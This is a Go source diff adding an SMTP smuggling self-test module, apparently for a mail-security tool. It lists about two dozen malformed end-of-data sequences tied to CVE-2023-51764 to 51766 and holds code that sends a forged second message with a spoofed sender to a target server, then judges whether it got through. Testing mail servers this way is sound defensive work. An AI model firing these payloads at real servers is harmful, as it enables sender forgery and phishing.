@@ -1,0 +1,153 @@
+package selftest
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"io"
+	"net/netip"
+	"net/textproto"
+	"strings"
+	"time"
+
+	"postseal/bundle"
+)
+
+// Data is the layer that keeps a message one: what looks like its end is none (RFC 5321
+// §4.1.1.4), and goes on so that it is none for the next server.
+const Data Layer = "data"
+
+// Smuggling is a way to get a second message past a server within the first: an end of the
+// data that one server does not take for the end and another does (CVE-2023-51764, -51765,
+// -51766).
+type Smuggling struct {
+	Name    string
+	Comment string
+	end     string // between the first message and the commands of the second
+	own     bool   // the end is one: the second message is another one, judged on its own
+	chunked bool   // the message is sent with BDAT (RFC 3030)
+}
+
+// Smugglings returns the known ways.
+func Smugglings() []Smuggling {
+	all := []Smuggling{
+		{Name: "pipelined", Comment: "a forgery in one segment with the message before it", end: "\r\n.\r\n", own: true},
+		{Name: "behind-bare-cr", Comment: "an end of the data behind a bare CR: the second message is one of its own", end: "\r\r\n.\r\n", own: true},
+		{Name: "bdat", Comment: "an end of the data and commands within a chunk", end: "\r\n.\r\n", chunked: true},
+		{Name: "nul-dot", Comment: "NUL before the dot", end: "\r\n\x00.\r\n"},
+		{Name: "dot-nul", Comment: "NUL behind the dot", end: "\r\n.\x00\r\n"},
+		{Name: "space-dot", Comment: "a space before the dot", end: "\r\n .\r\n"},
+		{Name: "dot-space", Comment: "a space behind the dot", end: "\r\n. \r\n"},
+		{Name: "two-dots", Comment: "a dot that is stuffed", end: "\r\n..\r\n"},
+		{Name: "nel", Comment: "NEL (U+0085) for line ends", end: "\u0085.\u0085"},
+		{Name: "vertical-tab", Comment: "vertical tabs for line ends", end: "\v.\v"},
+	}
+	names := strings.NewReplacer("\r\n", "crlf-", "\r", "cr-", "\n", "lf-", ".", "dot-")
+	for _, end := range []string{"\n.\n", "\n.\r\n", "\r\n.\n", "\r.\r", "\r.\r\n", "\r\n.\r", "\n.\r", "\r.\n", "\r\n.\r\r\n", "\r\r\n.\r\r\n", "\n\r.\r\n", "\n\r.\n\r", "\n\n.\r\n", "\r\n.\r\x00\n"} {
+		name := strings.Trim(strings.ReplaceAll(names.Replace(end), "\x00", "nul-"), "-")
+		all = append(all, Smuggling{Name: name, Comment: fmt.Sprintf("%q for the end of the data", end), end: end})
+	}
+	for i := range all {
+		all[i].Name = "smuggling-" + all[i].Name
+	}
+	return all
+}
+
+// The two messages: one of nobody's concern, and a forgery.
+const (
+	carrier   = "From: a@evil.test\r\nSubject: x\r\n\r\nfirst"
+	Smuggled  = "dana@acme.test" // the sender of the second message
+	forgery   = "From: " + Smuggled + "\r\n\r\nsmuggled\r\n.\r\n"
+	rfcOfData = "5321 §2.3.8, §4.1.1.4"
+)
+
+// Send puts s through t. It is stopped when no second message begins: refused, or still the
+// text of the first.
+func (s *Smuggling) Send(ctx context.Context, t Target) (Result, error) {
+	r := Result{Attack: s.Name, Comment: s.Comment, RFC: rfcOfData, Layer: None, Problem: []string{}}
+	c, err := dial(ctx, t)
+	if err != nil {
+		return r, err
+	}
+	defer c.close()
+	a := Attack{Name: s.Name, Bundle: &bundle.Bundle{Envelope: bundle.Envelope{IP: netip.MustParseAddr("203.0.113.66"), Helo: "mx.evil.test"}}}
+	hello, err := c.greet(&a)
+	if s.chunked && err == nil && !strings.Contains(hello, "CHUNKING") {
+		r.Layer, r.Stopped, r.Action, r.Reply = SMTP, true, "refused", "BDAT is not offered"
+		return r, nil
+	}
+	for _, command := range []string{"MAIL FROM:<a@evil.test>", "RCPT TO:<" + t.To + ">"} {
+		if err == nil {
+			r.Reply, err = c.command(command)
+		}
+	}
+	if err == nil && !s.chunked {
+		r.Reply, err = c.command("DATA")
+	}
+	if err != nil {
+		return r, fmt.Errorf("%s: the message that carries it is refused: %w", s.Name, err)
+	}
+	return r, s.judge(&r, c, t)
+}
+
+func (s *Smuggling) text(t Target) string {
+	second := carrier + s.end + "MAIL FROM:<" + Smuggled + ">\r\nRCPT TO:<" + t.To + ">\r\nDATA\r\n" + forgery
+	if s.chunked {
+		return fmt.Sprintf("BDAT %d LAST\r\n%sQUIT\r\n", len(second), second)
+	}
+	return second + "QUIT\r\n"
+}
+
+// judge sends the text and reads all that is said to it.
+func (s *Smuggling) judge(r *Result, c *client, t Target) error {
+	c.conn.SetDeadline(time.Now().Add(replyTimeout))
+	if _, err := io.WriteString(c.conn, s.text(t)); err != nil {
+		return err
+	}
+	var replies []int
+	for {
+		reply, err := c.read()
+		var refused *textproto.Error
+		switch {
+		case err == nil:
+			replies = append(replies, codeOf(reply))
+		case errors.As(err, &refused):
+			replies = append(replies, refused.Code)
+		case len(replies) > 0: // the server hung up, having said why
+			s.conclude(r, replies)
+			return nil
+		default:
+			return fmt.Errorf("%s: %w", s.Name, err)
+		}
+		if len(replies) == 1 || s.own && codeOf(reply) >= 400 {
+			r.Reply = reply
+		}
+		if codeOf(reply) == 221 {
+			s.conclude(r, replies)
+			return nil
+		}
+	}
+}
+
+func codeOf(reply string) (code int) {
+	fmt.Sscanf(reply, "%3d", &code) // 0 is no code
+	return code
+}
+
+// conclude tells from the codes behind the first message whether a second one began.
+func (s *Smuggling) conclude(r *Result, replies []int) {
+	begun, taken := false, false
+	for _, code := range replies[1:] {
+		taken = taken || begun && code/100 == 2 && code != 221
+		begun = begun || code == 354
+	}
+	switch {
+	case taken || begun && !s.own:
+		r.Action = "let in"
+		r.Problem = append(r.Problem, "a second message began within the first; Postfix: smtpd_forbid_bare_newline = normalize")
+	case s.own, replies[0] >= 400:
+		r.Layer, r.Stopped, r.Action = Message, true, "refused"
+	default:
+		r.Layer, r.Stopped, r.Action = Data, true, "one message"
+	}
+}
